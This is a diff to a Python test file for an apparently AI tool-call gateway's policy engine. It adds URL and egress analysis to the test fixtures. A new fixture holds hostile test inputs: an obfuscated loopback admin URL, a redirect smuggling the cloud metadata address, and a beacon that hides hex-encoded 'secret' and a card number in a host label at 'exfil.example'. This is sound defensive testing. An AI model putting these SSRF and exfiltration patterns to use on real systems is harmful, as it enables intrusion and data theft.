@@ -17,6 +17,7 @@ import yaml
 
 from gateway.policy import cel
 from gateway.stages.sanitizer.shell import analyse_call
+from gateway.stages.sanitizer.urls import analyse_urls
 
 pytestmark = pytest.mark.skipif(
     set(cel.ENGINES) - set(cel.available_engines()),
@@ -26,7 +27,8 @@ pytestmark = pytest.mark.skipif(
 ROOT = Path(__file__).resolve().parent.parent
 CORPUS = yaml.safe_load((Path(__file__).parent / "cel_corpus.yaml").read_text(encoding="utf-8"))
 DECLARED = frozenset(
-    {"principal", "tool", "args", "args_shell", "request", "session", "findings", "now", "call", "response"}
+    {"principal", "tool", "args", "args_shell", "args_urls", "egress", "request", "session", "findings", "now", "call",
+     "response"}
 )
 PY, RS = cel.ENGINES
 
@@ -147,6 +149,8 @@ def _call(tool: dict[str, Any], args: dict[str, Any], **extra: Any) -> dict[str,
     session = extra.get("session", [])
     return {
         "args_shell": analyse_call(args).as_cel(),
+        "args_urls": analyse_urls(tool["name"], args).as_cel(),
+        "egress": extra.get("egress", {"allow": [], "deny": []}),
         "principal": {"id": "alice", "tier": "standard", "roles": ["dev"], "claims": {},
                       "karma": {"calls": 3, "denials": 0}},
         "tool": {"backend": "fs", "digest": "sha256:00", "changed": False,
@@ -195,6 +199,13 @@ SHIPPED_ACTIVATIONS = {
               "paths": {"execute": ["/tmp/x.sh"], "network_send": ["https://x.example/u"]}},
     ),
     "unparsed": _call({"name": "run_command"}, {"command": "echo 'open"}),
+    # egress: an internal destination, a metadata one nested in a redirect, data in a host label
+    "egress": _call(
+        {"name": "fetch"},
+        {"url": "http://0x7f.1:8080/admin", "next": "https://r.example/go?to=http%3A%2F%2F169.254.169.254%2F",
+         "beacon": "https://736563726574.x.exfil.example/p?cc=4111111111111111"},
+        egress={"allow": ["127.0.0.0/8:9090", "example.com"], "deny": ["exfil.example"]},
+    ),
 }
 
 
